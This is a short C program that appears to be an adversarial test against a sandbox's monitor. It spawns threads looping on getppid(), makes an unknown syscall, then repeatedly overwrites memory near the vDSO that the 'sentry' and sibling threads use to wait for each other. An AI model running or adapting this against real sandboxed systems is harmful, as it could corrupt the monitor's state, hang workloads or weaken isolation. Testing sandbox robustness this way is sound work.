// A thread that keeps overwriting the words by which its siblings and the sentry wait for each other.
#include <unistd.h>
#include <string.h>
#include <stdint.h>
#include <pthread.h>
#include <sys/auxv.h>
#include <sys/syscall.h>
static void *caller(void *a) { for (;;) getppid(); }
int main(void) {
    char *blob = (char *)((uintptr_t)getauxval(AT_SYSINFO_EHDR) & ~0x1fffffUL);
    pthread_t t[3];
    for (int i = 0; i < 3; i++) pthread_create(&t[i], 0, caller, 0);
    syscall(1000);
    for (unsigned n = 0;; n++)
        for (int slot = 1; slot < 4; slot++) {
            volatile unsigned *words = (unsigned *)(blob + 0x1000000 + slot * 0x10000);
            for (int i = 0; i < 16; i++) words[i] = i == 1 ? 0 : n >> 8;
            words[32] = n; words[33] = 0;
        }
}
